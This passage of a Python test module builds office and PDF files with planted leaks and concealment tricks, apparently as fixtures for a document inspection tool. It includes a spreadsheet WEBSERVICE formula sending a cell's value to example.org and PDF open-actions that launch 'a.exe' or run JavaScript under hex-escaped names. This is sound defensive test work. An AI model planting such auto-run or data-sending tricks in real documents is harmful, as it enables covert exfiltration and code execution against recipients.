"""More planted leaks, as a stranger would hide them: other names for parts, other ways not to be seen, other places to write."""

from __future__ import annotations

import base64
import gzip
import io
import json
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

import polars as pl
from tests.hostile.documents import page as hand_pdf
from tests.hostile.documents import stream
from tests.hostile.making import laughs
from tests.inspection.making import (
    GPS,
    KIND,
    RELS,
    A,
    W,
    book,
    changed,
    exif,
    in_body,
    jpeg,
    line,
    ods_rows,
    opendocument,
    page,
    pdf,
    png,
    run,
    saved_over,
    shape,
    slides,
    svg,
    table,
    with_parts,
    word,
    zipped,
)

WHO = "Awa Fictive"
SAID = "Aminata Coulibaly (+223 70 00 00 00) a témoigné."
Group = dict[str, tuple[str, Callable[[], bytes]]]


def inner(*rows: tuple[str, str]) -> str:
    """A part of relations that lead to other parts of the package."""
    told = "".join(
        f'<Relationship Id="rIn{at}" Type="{KIND}/{kind}" Target="{target}"/>'
        for at, (kind, target) in enumerate(rows, 700)
    )
    return f'<Relationships xmlns="{RELS}">{told}</Relationships>'


def led(data: bytes, part: str, kind: str, target: str, body: bytes | str) -> bytes:
    """A package with one more part, to which another leads by a relation of a kind."""
    folder, _, name = part.rpartition("/")
    rels = f"{folder}/_rels/{name}.rels".lstrip("/")
    row = inner((kind, target)).partition(f'xmlns="{RELS}">')[2].removesuffix("</Relationships>")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        old = archive.read(rels).decode() if rels in archive.namelist() else inner()
    return with_parts(data, {rels: old.replace("</Relationships>", f"{row}</Relationships>"), target.lstrip("/"): body})


def sheet_with(before: str, added: str) -> Callable[[], bytes]:
    """A workbook whose sheet says one more thing before a tag."""
    return lambda: changed(book(), "xl/worksheets/sheet1.xml", lambda text: text.replace(before, added + before, 1))


def styled(change: Callable[[str], str], style: bool = True) -> bytes:
    """A workbook whose first cell of numbers has a style of its own."""
    data = changed(book(), "xl/styles.xml", change)
    return (
        changed(data, "xl/worksheets/sheet1.xml", lambda text: text.replace('<c r="B2"', '<c r="B2" s="1"', 1))
        if style
        else data
    )


def _formatted(code: str) -> Callable[[], bytes]:
    def change(text: str) -> str:
        formats = f'<numFmts count="1"><numFmt numFmtId="170" formatCode="{code}"/></numFmts><fonts'
        text = text.replace("<fonts", formats, 1)
        return text.replace(
            "</cellXfs>", '<xf numFmtId="170" fontId="0" fillId="0" borderId="0" applyNumberFormat="1"/></cellXfs>'
        )

    return lambda: styled(change)


def _texts(more: str) -> Callable[[], bytes]:
    return lambda: changed(
        book(), "xl/sharedStrings.xml", lambda text: text.replace("</sst>", f"<si>{more}</si></sst>")
    )


def _rich(look: str) -> Callable[[], bytes]:
    def make() -> bytes:
        si = f"<si><r><t>Gao</t></r><r><rPr>{look}</rPr><t> le témoin</t></r></si>"
        return changed(book(), "xl/sharedStrings.xml", lambda text: text.replace("<si><t>Gao</t></si>", si))

    return make


def _conditional() -> bytes:
    rule = '<conditionalFormatting sqref="B2"><cfRule type="expression" dxfId="0" priority="1"><formula>TRUE</formula></cfRule></conditionalFormatting>'
    data = sheet_with("<pageMargins", rule)()
    dxf = '<dxfs count="1"><dxf><numFmt numFmtId="180" formatCode=";;;"/></dxf></dxfs>'
    return changed(data, "xl/styles.xml", lambda text: text.replace('<dxfs count="0"/>', dxf))


def _drawing(inside: str, name: str = "xl/drawings/drawing1.xml") -> Callable[[], bytes]:
    told = f'<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" {A}><xdr:sp>{inside}</xdr:sp></xdr:wsDr>'
    return lambda: led(book(), "xl/worksheets/sheet1.xml", "drawing", f"/{name}", told)


def _box(words: str, about: str = "") -> str:
    return f'<xdr:nvSpPr><xdr:cNvPr id="2" name="t"{about}/></xdr:nvSpPr><xdr:txBody><a:p><a:r><a:t>{words}</a:t></a:r></a:p></xdr:txBody>'


_CHART = (
    '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:ser><c:cat><c:strRef><c:f>{}</c:f>'
    "<c:strCache><c:pt><c:v>{}</c:v></c:pt></c:strCache></c:strRef></c:cat></c:ser></c:chartSpace>"
)


def _utf16(text: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-16"?>{text}'.encode("utf-16")


def _renamed_book() -> bytes:
    """A workbook whose list of sheets, with a hidden one, lies under another name."""

    def edit(made: object, sheet: object) -> None:
        other = made.add_worksheet("Brut")  # type: ignore[attr-defined]
        other.write_row(0, 0, ("Gao", 3))
        other.hide()

    with zipfile.ZipFile(io.BytesIO(book(edit=edit))) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    swap = {"xl/workbook.xml": "xl/liste.xml", "xl/_rels/workbook.xml.rels": "xl/_rels/liste.xml.rels"}
    out = {swap.get(name, name): data.replace(b"xl/workbook.xml", b"xl/liste.xml") for name, data in parts.items()}
    return zipped(out)


def _extra() -> bytes:
    """A workbook with bytes between its members that no list names."""
    data = book()
    at = data.find(b"PK\x03\x04", 4)
    hidden = b"le camp de Fictive" * 9
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        infos = archive.infolist()
    out = bytearray(data[:at] + hidden + data[at:])
    end = out.rfind(b"PK\x05\x06")
    place = struct.unpack_from("<I", out, end + 16)[0] + len(hidden)
    struct.pack_into("<I", out, end + 16, place)
    for info in infos:
        if info.header_offset >= at:
            struct.pack_into("<I", out, place + 42, info.header_offset + len(hidden))
        name, extra, remark = struct.unpack_from("<HHH", out, place + 28)
        place += 46 + name + extra + remark
    return bytes(out)


WORKBOOKS: Group = {
    "conversations under another name": (
        "comments",
        lambda: led(
            book(),
            "xl/worksheets/sheet1.xml",
            "comments",
            "/xl/notes/a.xml",
            '<comments xmlns="x"><commentList><comment ref="A1"/></commentList></comments>',
        ),
    ),
    "an object under another name": (
        "embedded",
        lambda: led(book(), "xl/worksheets/sheet1.xml", "oleObject", "/xl/x/a.bin", b"\0"),
    ),
    "a pivot cache under another name": (
        "pivot_cache",
        lambda: led(book(), "xl/workbook.xml", "pivotCacheDefinition", "/xl/p/a.xml", "<p/>"),
    ),
    "a connection under another name": (
        "data_connection",
        lambda: led(book(), "xl/workbook.xml", "connections", "/xl/c/a.xml", "<c/>"),
    ),
    "a list of sheets under another name": ("hidden_sheet", _renamed_book),
    "a copy of a workbook in a part called image": (
        "embedded",
        lambda: with_parts(book(), {"xl/media/image1.png": book()}),
    ),
    "an old file in a part called settings": (
        "embedded",
        lambda: with_parts(book(), {"xl/drawings/b.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)}),
    ),
    "a part to which nothing leads": (
        "left_over",
        lambda: with_parts(book(), {"xl/worksheets/sheet9.xml": "<worksheet><sheetData/></worksheet>"}),
    ),
    "a text to which nothing leads": ("left_over", lambda: with_parts(book(), {"notes.txt": "Awa Fictive a vu"})),
    "a slicer": (
        "pivot_cache",
        lambda: led(
            book(),
            "xl/workbook.xml",
            "slicerCache",
            "/xl/slicerCaches/slicerCache1.xml",
            '<s><items><i n="Awa"/></items></s>',
        ),
    ),
    "a timeline": (
        "pivot_cache",
        lambda: led(
            book(), "xl/workbook.xml", "timelineCacheDefinition", "/xl/timelineCaches/timelineCache1.xml", "<t/>"
        ),
    ),
    "personal views": (
        "change_history",
        lambda: changed(
            book(),
            "xl/workbook.xml",
            lambda text: text.replace(
                "</workbook>",
                f'<customWorkbookViews><customWorkbookView name="{WHO} - Personal View" guid="1"/></customWorkbookViews></workbook>',
            ),
        ),
    ),
    "a window that is not shown": (
        "hidden_sheet",
        lambda: changed(
            book(),
            "xl/workbook.xml",
            lambda text: text.replace("<workbookView ", '<workbookView visibility="veryHidden" ', 1),
        ),
    ),
    "every row hidden but some": (
        "hidden_rows",
        lambda: changed(
            book(),
            "xl/worksheets/sheet1.xml",
            lambda text: text.replace("<sheetFormatPr ", '<sheetFormatPr zeroHeight="1" ', 1),
        ),
    ),
    "columns of no width unless said": (
        "hidden_columns",
        lambda: changed(
            book(),
            "xl/worksheets/sheet1.xml",
            lambda text: text.replace("<sheetFormatPr ", '<sheetFormatPr defaultColWidth="0" ', 1),
        ),
    ),
    "a format that shows stars": (
        "unseen_cells",
        _formatted("&quot;***&quot;;&quot;***&quot;;&quot;***&quot;;&quot;***&quot;"),
    ),
    "a format of blanks": ("unseen_cells", _formatted("&quot; &quot;;&quot; &quot;;&quot; &quot;;")),
    "a format of colours that shows nothing": ("unseen_cells", _formatted("[White];[White];[White];")),
    "a condition that hides a cell": ("unseen_cells", _conditional),
    "white words within a cell": ("unseen_cells", _rich('<color rgb="FFFFFFFF"/>')),
    "words under a reading": ("unseen_cells", _texts('<t>x</t><rPh sb="0" eb="1"><t>Awa Fictive</t></rPh>')),
    "texts that no cell shows": ("left_over", _texts("<t>le camp de Fictive</t>")),
    "a head of page": (
        "mails",
        sheet_with(
            "</worksheet>", "<headerFooter><oddHeader>&amp;Lecrire a awa@example.org</oddHeader></headerFooter>"
        ),
    ),
    "a list of allowed values": (
        "telephones",
        sheet_with(
            "<pageMargins",
            '<dataValidations count="1"><dataValidation type="list" sqref="A2"><formula1>"+223 70 00 00 00,autre"</formula1></dataValidation></dataValidations>',
        ),
    ),
    "a text box": ("telephones", _drawing(_box("appeler le +223 70 00 00 00"))),
    "a hidden text box": ("hidden_shape", _drawing(_box("le camp", ' hidden="1"'))),
    "a chart of another workbook": (
        "outside_name",
        lambda: led(
            book(), "xl/worksheets/sheet1.xml", "chart", "/xl/charts/chart1.xml", _CHART.format("[1]Brut!$A$1", "Gao")
        ),
    ),
    "a chart that kept a telephone": (
        "telephones",
        lambda: led(
            book(),
            "xl/worksheets/sheet1.xml",
            "chart",
            "/xl/charts/chart1.xml",
            _CHART.format("Brut!$A$1", "+223 70 00 00 00"),
        ),
    ),
    "a cell that calls a web page": (
        "loads_elsewhere",
        lambda: changed(
            book(),
            "xl/worksheets/sheet1.xml",
            lambda text: text.replace(
                '<c r="B2">', '<c r="B2"><f>_xlfn.WEBSERVICE("https://example.org/?a="&amp;A1)</f>', 1
            ),
        ),
    ),
    "a page to be published at a path": (
        "local_path",
        sheet_with(
            "</worksheet>",
            '<webPublishItems><webPublishItem id="1" divId="a" sourceType="sheet" destinationFile="D:\\Dossiers\\awa\\p.htm"/></webPublishItems>',
        ),
    ),
    "who may edit a range": (
        "author",
        sheet_with("<pageMargins", f'<protectedRanges><protectedRange name="{WHO}" sqref="A1"/></protectedRanges>'),
    ),
    "an add-in": ("macros", lambda: led(book(), "", "webextensiontaskpanes", "xl/webextensions/taskpanes.xml", "<t/>")),
    "a ribbon": ("macros", lambda: with_parts(book(), {"customUI/customUI.xml": "<customUI onLoad='a'/>"})),
    "a signature": ("author", lambda: led(book(), "", "origin", "_xmlsignatures/origin.sigs", b"")),
    "pictures by their address": (
        "outside_link",
        lambda: with_parts(
            book(),
            {
                "xl/richData/_rels/rdRichValueWebImage.xml.rels": inner().replace(
                    "</Rel",
                    f'<Relationship Id="r1" Type="{KIND}/hyperlinkImage" Target="https://example.org/a.png" TargetMode="External"/></Rel',
                )
            },
        ),
    ),
    "a drawing with a title in a part": (
        "svg_words",
        lambda: with_parts(book(), {"xl/media/image1.svg": svg("<title>Camp de Fictive</title>")}),
    ),
    "a film": (
        "member_not_read",
        lambda: with_parts(book(), {"xl/media/media1.mp4": b"\0\0\0\x18ftypmp42" + bytes(99)}),
    ),
    "bytes after its end": ("after_end", lambda: book() + b"le camp de Fictive" * 9),
    "bytes between its members": ("after_end", _extra),
    "a remark of the archive": ("archive_remarks", lambda: _commented(book(), b"version de Awa")),
    "a property in a second list": (
        "properties",
        lambda: led(
            book(),
            "",
            "custom-properties",
            "docProps/autre.xml",
            '<p><property name="Dossier"><v>Fictif</v></property></p>',
        ),
    ),
    "an author in a second list": (
        "author",
        lambda: led(book(), "", "core-properties", "docProps/autre.xml", f"<c><creator>{WHO}</creator></c>"),
    ),
    "the title of a removed sheet": (
        "properties",
        lambda: changed(
            book(),
            "docProps/app.xml",
            lambda text: text.replace(
                "<vt:lpstr>Données</vt:lpstr>", "<vt:lpstr>Données</vt:lpstr><vt:lpstr>Survivantes Fictive</vt:lpstr>"
            ),
        ),
    ),
    "an author in a part of two bytes a letter": (
        "author",
        lambda: with_parts(book(), {"docProps/core.xml": _utf16(f"<c><creator>{WHO}</creator></c>")}),
    ),
}


def _before(data: bytes) -> bytes:
    """The archive pushed back by bytes that belong to nobody, its list still right."""
    out = io.BytesIO()
    out.write(b"le camp de Fictive" * 9)
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))
    return out.getvalue()


def _commented(data: bytes, remark: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return zipped({name: archive.read(name) for name in archive.namelist()}, comment=remark)


# -- Word -------------------------------------------------------------------------------------------------------------

_STYLES = f"<w:styles {W}>{{}}</w:styles>"
_BY_STYLE = '<w:p><w:r><w:rPr><w:rStyle w:val="a"/></w:rPr><w:t>le témoin</w:t></w:r></w:p>'
_MC = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'


def _style(look: str, kind: str = "character", more: str = "") -> bytes:
    told = f'<w:style w:type="{kind}" w:styleId="a">{more}<w:rPr>{look}</w:rPr></w:style>'
    return led(word(_BY_STYLE), "word/document.xml", "styles", "/word/styles.xml", _STYLES.format(told))


def _body(inside: str, **parts: bytes | str) -> Callable[[], bytes]:
    return lambda: word(inside, {name.replace("__", "/").replace("_xml", ".xml"): data for name, data in parts.items()})


DOCUMENTS: Group = {
    "words hidden by a style": ("hidden_text", lambda: _style("<w:vanish/>")),
    "words hidden by the style under a style": (
        "hidden_text",
        lambda: led(
            word(_BY_STYLE),
            "word/document.xml",
            "styles",
            "/word/styles.xml",
            _STYLES.format(
                '<w:style w:type="character" w:styleId="b"><w:rPr><w:vanish/></w:rPr></w:style><w:style w:type="character" w:styleId="a"><w:basedOn w:val="b"/></w:style>'
            ),
        ),
    ),
    "words made white by a style": ("unseen_text", lambda: _style('<w:color w:val="FFFFFF"/>')),
    "words of the colour of the paper": (
        "unseen_text",
        _body(run("le témoin", '<w:color w:val="auto" w:themeColor="background1"/>')),
    ),
    "words nearly white": ("unseen_text", _body(run("le témoin", '<w:color w:val="FCFDFC"/>'))),
    "black words on black": ("unseen_text", _body(run("le témoin", '<w:highlight w:val="black"/>'))),
    "black words on a black ground": (
        "unseen_text",
        _body(run("le témoin", '<w:color w:val="000000"/><w:shd w:val="clear" w:fill="000000"/>')),
    ),
    "words squeezed to nothing": ("unseen_text", _body(run("le témoin", '<w:w w:val="1"/>'))),
    "words in an alternative": (
        "hidden_text",
        _body(
            f"<w:p><w:r><mc:AlternateContent {_MC}><mc:Choice Requires='a'><w:t>vu</w:t></mc:Choice><mc:Fallback><w:t>le camp de Fictive</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>"
        ),
    ),
    "a note that nothing calls": (
        "left_over",
        _body(
            "",
            word__footnotes_xml=f'<w:footnotes {W}><w:footnote w:id="7">{run("le témoin Fictif")}</w:footnote></w:footnotes>',
        ),
    ),
    "a path in a simple field": (
        "local_path",
        _body(
            '<w:p><w:fldSimple w:instr=" FILENAME D:\\\\Dossiers\\\\awa\\\\p.docx "><w:r><w:t>p</w:t></w:r></w:fldSimple></w:p>'
        ),
    ),
    "a path cut in runs": (
        "local_path",
        _body(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT "D:</w:instrText></w:r><w:r><w:instrText>\\\\awa\\\\p.docx"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
    ),
    "an address in a field": (
        "mail_link",
        _body('<w:p><w:r><w:instrText>HYPERLINK "mailto:awa@example.org"</w:instrText></w:r></w:p>'),
    ),
    "comments under another name": (
        "comments",
        lambda: led(
            word(),
            "word/document.xml",
            "comments",
            "/word/a.xml",
            f'<w:comments {W}><w:comment w:id="1">{run("qui ?")}</w:comment></w:comments>',
        ),
    ),
    "a text chunk under another name": (
        "embedded",
        lambda: led(word(), "word/document.xml", "aFChunk", "/word/x.htm", "<html/>"),
    ),
    "a document under another name": ("deleted_text", lambda: _renamed_word()),
    "a Word file that says it is a workbook": (
        "hidden_text",
        lambda: with_parts(
            word(run("le témoin", "<w:vanish/>")), {"xl/workbook.xml": "<workbook><sheets/></workbook>"}
        ),
    ),
    "a Word file that says it is of LibreOffice": (
        "hidden_text",
        lambda: with_parts(
            word(run("le témoin", "<w:vanish/>")),
            {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"},
        ),
    ),
    "words in a picture of lines": (
        "alternative_text",
        _body(
            '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" alt="Carte du camp"/></w:pict></w:r></w:p>'
        ),
    ),
    "a path in a picture of lines": (
        "local_path",
        _body(
            '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" alt="D:\\Dossiers\\awa\\p.png"/></w:pict></w:r></w:p>'
        ),
    ),
    "a description between single marks": (
        "alternative_text",
        _body("<w:p><w:drawing><wp:docPr xmlns:wp='w' descr='Carte du camp'/></w:drawing></w:p>"),
    ),
    "the choices of a list": (
        "form_values",
        _body(
            f'<w:p><w:sdt><w:sdtPr><w:dropDownList><w:listItem w:displayText="{WHO}" w:value="1"/></w:dropDownList></w:sdtPr><w:sdtContent><w:r><w:t>x</w:t></w:r></w:sdtContent></w:sdt></w:p>'
        ),
    ),
    "a command to a database": (
        "mail_merge",
        _body(
            "",
            word__settings_xml=f'<w:settings {W}><w:mailMerge><w:connectString w:val="Provider=a;Data Source=b"/></w:mailMerge></w:settings>',
        ),
    ),
    "an old history": (
        "change_history",
        lambda: with_parts(
            word(),
            {
                "word/glossary/document.xml": f"<w:glossaryDocument {W}><w:docParts>{run('le camp de Fictive')}</w:docParts></w:glossaryDocument>"
            },
        ),
    ),
    "a signature": (
        "author",
        lambda: with_parts(
            word(), {"_xmlsignatures/sig1.xml": f"<Signature><X509SubjectName>CN={WHO}</X509SubjectName></Signature>"}
        ),
    ),
    "bytes after its end": ("after_end", lambda: word() + b"le camp de Fictive" * 9),
}


def _renamed_word() -> bytes:
    with zipfile.ZipFile(
        io.BytesIO(word('<w:p><w:del w:id="1" w:author="x"><w:r><w:delText>le camp</w:delText></w:r></w:del></w:p>'))
    ) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    swap = {"word/document.xml": "word/texte.xml", "word/_rels/document.xml.rels": "word/_rels/texte.xml.rels"}
    return zipped(
        {swap.get(name, name): data.replace(b"word/document.xml", b"word/texte.xml") for name, data in parts.items()}
    )


# -- slides and LibreOffice -------------------------------------------------------------------------------------------

SLIDES: Group = {
    "a telephone on a slide": ("telephones", lambda: slides(shape("appeler le +223 70 00 00 00", x=10, y=10))),
    "an address on a slide": ("mails", lambda: slides(shape("écrire à awa@example.org", x=10, y=10))),
    "words of an add-in": (
        "custom_xml",
        lambda: led(
            slides(),
            "ppt/presentation.xml",
            "tags",
            "/ppt/tags/tag1.xml",
            '<p:tagLst xmlns:p="p"><p:tag name="DOSSIER" val="camp"/></p:tagLst>',
        ),
    ),
    "a film": (
        "member_not_read",
        lambda: with_parts(slides(), {"ppt/media/media1.mp4": b"\0\0\0\x18ftypmp42" + bytes(99)}),
    ),
    "a slide to which nothing leads": ("left_over", lambda: with_parts(slides(), {"ppt/slides/slide9.xml": "<a/>"})),
}

_TEXT = "<office:automatic-styles>{}</office:automatic-styles><office:body><office:text>{}</office:text></office:body>"


def _odt(body: str, styles: str = "", **parts: bytes | str) -> Callable[[], bytes]:
    spaced = _TEXT.format(styles, body).replace(
        "<style:text-properties",
        '<style:text-properties xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0"',
    )
    made = opendocument(spaced, mimetype="text")
    return lambda: with_parts(
        made, {name.replace("__", "/").replace("_xml", ".xml"): data for name, data in parts.items()}
    )


OPEN_TEXTS: Group = {
    "a telephone in the text": ("telephones", _odt("<text:p>appeler le +223 70 00 00 00</text:p>")),
    "white words": (
        "unseen_text",
        _odt(
            '<text:p text:style-name="a">le témoin</text:p>',
            '<style:style style:name="a"><style:text-properties fo:color="#ffffff"/></style:style>',
        ),
    ),
    "a hidden section": (
        "hidden_text",
        _odt('<text:section text:display="none"><text:p>le témoin</text:p></text:section>'),
    ),
    "words in a hidden field": (
        "hidden_text",
        _odt('<text:p><text:conditional-text text:string-value-if-true="le camp"/></text:p>'),
    ),
    "a file written into it": (
        "embedded_data",
        _odt(f"<text:p><office:binary-data>{base64.b64encode(b'secret' * 9).decode()}</office:binary-data></text:p>"),
    ),
    "a link to an address": (
        "mail_link",
        _odt('<text:p><text:a xlink:href="mailto:awa@example.org">x</text:a></text:p>'),
    ),
    "a printer": (
        "printer",
        _odt(
            "<text:p>x</text:p>",
            settings_xml='<s><config-item name="PrinterName">ONG_Fictive_2e_etage</config-item></s>',
        ),
    ),
    "a signature": (
        "author",
        _odt(
            "<text:p>x</text:p>",
            **{"META-INF__documentsignatures_xml": f"<s><X509IssuerName>{WHO}</X509IssuerName></s>"},
        ),
    ),
    "a photograph in a folder of its own": (
        "picture_position",
        lambda: with_parts(_odt("<text:p>x</text:p>")(), {"media/a.dat": GPS}),
    ),
    "a text that lies beside": (
        "left_over",
        lambda: with_parts(_odt("<text:p>x</text:p>")(), {"notes.txt": "le camp"}),
    ),
}

OPEN_BOOKS: Group = {
    "white cells": (
        "unseen_cells",
        lambda: opendocument(
            in_body(
                ods_rows().replace("<table:table-cell ", '<table:table-cell table:style-name="w" '),
                '<style:style style:name="w"><style:text-properties xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" fo:color="#ffffff"/></style:style>',
            )
        ),
    ),
    "a sheet hidden by the styles of the file": (
        "hidden_sheet",
        lambda: with_parts(
            opendocument(in_body(ods_rows(attributes=' table:style-name="ta9"'))),
            {
                "styles.xml": '<s xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><style:style style:name="ta9"><style:table-properties table:display="false"/></style:style></s>'
            },
        ),
    ),
    "a list of allowed values": (
        "telephones",
        lambda: opendocument(
            in_body(
                '<table:content-validations><table:content-validation table:condition="cell-content-is-in-list(&quot;+223 70 00 00 00&quot;)"/></table:content-validations>'
                + ods_rows()
            )
        ),
    ),
    "a text box": (
        "telephones",
        lambda: opendocument(
            in_body(
                ods_rows()
                + '<draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"><text:p>appeler le +223 70 00 00 00</text:p></draw:frame>'
            )
        ),
    ),
}

# -- PDF --------------------------------------------------------------------------------------------------------------

_BLACK = "0 0 0 rg"
_XMP = (
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    '<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">{}</rdf:Description></rdf:RDF></x:xmpmeta>'
)


def _locked_open() -> bytes:
    """A PDF that anybody opens, and whose bytes are all the same enciphered."""
    import pikepdf

    made = pikepdf.new()
    made.add_blank_page(page_size=(595, 842))
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="a.exe")
    told = "<dc:creator><rdf:Seq><rdf:li>Awa Fictive</rdf:li></rdf:Seq></dc:creator>"
    meta = made.make_stream(_XMP.format(told).encode())
    meta.Type, meta.Subtype = pikepdf.Name.Metadata, pikepdf.Name.XML
    made.Root.Metadata = meta
    out = io.BytesIO()
    made.save(out, encryption=pikepdf.Encryption(user="", owner="secret", R=6))
    return out.getvalue()


def _orphan_page() -> bytes:
    other = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 8 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
    return hand_pdf(o7=other, o8=stream(b"BT /F1 12 Tf 72 700 Td (le camp de Fictive) Tj ET"))


def _ended_otherwise() -> bytes:
    """An earlier version whose end was wiped, still reached by its table."""
    return saved_over(pdf(line("le camp de Fictive")), "Un texte").replace(b"%%EOF", b"      ", 1)


def _many_versions() -> bytes:
    data = pdf(line("le camp de Fictive"))
    for at in range(9):
        data = saved_over(data, f"Un texte {at}")
    return data


def _flagged_linear() -> bytes:
    """The earlier version calls itself made for the web, so that its end is taken for a half."""
    data = pdf(line("le camp de Fictive"))
    return saved_over(
        data.replace(b"%\xbf\xf7\xa2\xfe", b"%/Linearized", 1)
        if b"%\xbf\xf7\xa2\xfe" in data
        else data.replace(b"\n", b"\n%/Linearized\n", 1),
        "Un texte",
    )


PDFS: Group = {
    "bytes after its end": ("after_end", lambda: pdf() + b"PK\x03\x04" + b"le camp de Fictive" * 9),
    "bytes before its beginning": ("after_end", lambda: b"le camp de Fictive\n" * 9 + pdf()),
    "a name spelt with numbers": (
        "pdf_script",
        lambda: hand_pdf(catalogue=b"/OpenAction << /S /Laun#63h /F (a.exe) >>"),
    ),
    "a script spelt with numbers": (
        "pdf_script",
        lambda: hand_pdf(catalogue=b"/OpenAction << /S /J#61vaScript /JS (1) >>"),
    ),
    "a form that is a program": (
        "pdf_script",
        lambda: hand_pdf(catalogue=b"/AcroForm << /XFA 7 0 R >>", o7=stream(b"<xdp/>")),
    ),
    "a link to a file on a share": (
        "local_path",
        lambda: hand_pdf(catalogue=b"/OpenAction << /S /GoToR /F (\\\\\\\\serveur\\\\awa.pdf) /D [0 /Fit] >>"),
    ),
    "data taken in on opening": (
        "pdf_script",
        lambda: hand_pdf(catalogue=b"/OpenAction << /S /ImportData /F (a.fdf) >>"),
    ),
    "an enciphered program": ("pdf_script", _locked_open),
    "an enciphered author": ("pdf_author", _locked_open),
    "words clear as air": (
        "pdf_unseen_text",
        lambda: hand_pdf(
            b"/G0 gs BT /F1 12 Tf 72 700 Td (le temoin Fictif) Tj ET", resources=b"/ExtGState << /G0 << /ca 0 >> >>"
        ),
    ),
    "black words on a black box": (
        "covered_text",
        lambda: pdf(f"q {_BLACK} 60 590 300 30 re f Q\n" + line("le temoin Fictif", before=_BLACK)),
    ),
    "words under a thick line": (
        "covered_text",
        lambda: pdf(line("le temoin Fictif") + "q 30 w 0 0 0 RG 60 604 m 360 604 l S Q\n"),
    ),
    "words under a box of round corners": (
        "covered_text",
        lambda: pdf(
            line("le temoin Fictif")
            + "q 0 0 0 rg 60 595 m 355 595 l 357 595 360 597 360 600 c 360 615 l 360 618 358 620 355 620 c 65 620 l 62 620 60 618 60 615 c 60 600 l 60 597 62 595 65 595 c f Q\n"
        ),
    ),
    "words under many strips": (
        "covered_text",
        lambda: pdf(
            line("le temoin Fictif")
            + "q 0 0 0 rg "
            + "".join(f"{60 + 10 * at} 590 10 30 re f " for at in range(30))
            + "Q\n"
        ),
    ),
    "words of no size": ("pdf_unseen_text", lambda: pdf("q BT /F1 0.2 Tf 72 600 Td (le temoin Fictif) Tj ET Q\n")),
    "words cut away": (
        "pdf_unseen_text",
        lambda: pdf("q 0 0 1 1 re W n BT /F1 12 Tf 72 600 Td (le temoin Fictif) Tj ET Q\n"),
    ),
    "a page to which nothing leads": ("earlier_version", _orphan_page),
    "an earlier version without its end": ("earlier_version", _ended_otherwise),
    "the first of ten versions": ("earlier_version", _many_versions),
    "an earlier version that calls itself made for the web": ("earlier_version", _flagged_linear),
    "a layer shut by another word": (
        "hidden_layer",
        lambda: hand_pdf(
            catalogue=b"/OCProperties << /OCGs [7 0 R] /D << /BaseState /OFF >> >>",
            o7=b"<< /Type /OCG /Name (sites) >>",
        ),
    ),
    "a layer shut in a list elsewhere": (
        "hidden_layer",
        lambda: hand_pdf(
            catalogue=b"/OCProperties << /OCGs [7 0 R] /D << /OFF 8 0 R >> >>",
            o7=b"<< /Type /OCG /Name (sites) >>",
            o8=b"[7 0 R]",
        ),
    ),
    "a name in the outline": (
        "telephones",
        lambda: hand_pdf(
            catalogue=b"/Outlines 7 0 R",
            o7=b"<< /Type /Outlines /First 8 0 R /Last 8 0 R /Count 1 >>",
            o8=b"<< /Title (appeler le +223 70 00 00 00) /Parent 7 0 R /Dest [3 0 R /Fit] >>",
        ),
    ),
    "words said in place of others": (
        "alternative_text",
        lambda: hand_pdf(
            b"/Span << /ActualText (le camp de Fictive) >> BDC BT /F1 12 Tf 72 700 Td (Un texte) Tj ET EMC"
        ),
    ),
    "a property of its own": (
        "pdf_properties",
        lambda: hand_pdf(trailer=b"/Info 7 0 R", o7=b"<< /Company (ONG fictive) >>"),
    ),
    "the file of a figure": ("local_path", lambda: hand_pdf(o7=b"<< /PTEX.FileName (../awa/fig/camp.pdf) >>")),
    "who signed": (
        "pdf_author",
        lambda: hand_pdf(o7=b"<< /Type /Sig /Filter /Adobe.PPKLite /Name (Awa Fictive) /Location (Gao) >>"),
    ),
    "a contributor in XMP": (
        "pdf_author",
        lambda: hand_pdf(
            catalogue=b"/Metadata 7 0 R",
            o7=stream(
                b"<x:xmpmeta><dc:contributor><rdf:Bag><rdf:li>Awa Fictive</rdf:li></rdf:Bag></dc:contributor></x:xmpmeta>",
                b"/Type /Metadata /Subtype /XML ",
                packed=False,
            ),
        ),
    ),
    "an author in XMP packed far from its name": (
        "pdf_author",
        lambda: hand_pdf(
            catalogue=b"/Metadata 7 0 R",
            o7=stream(
                b"<x:xmpmeta><dc:creator><rdf:Seq><rdf:li>Awa Fictive</rdf:li></rdf:Seq></dc:creator></x:xmpmeta>",
                b"/Type /Metadata /Subtype /XML /Pad (" + b"x" * 400 + b") ",
            ),
        ),
    ),
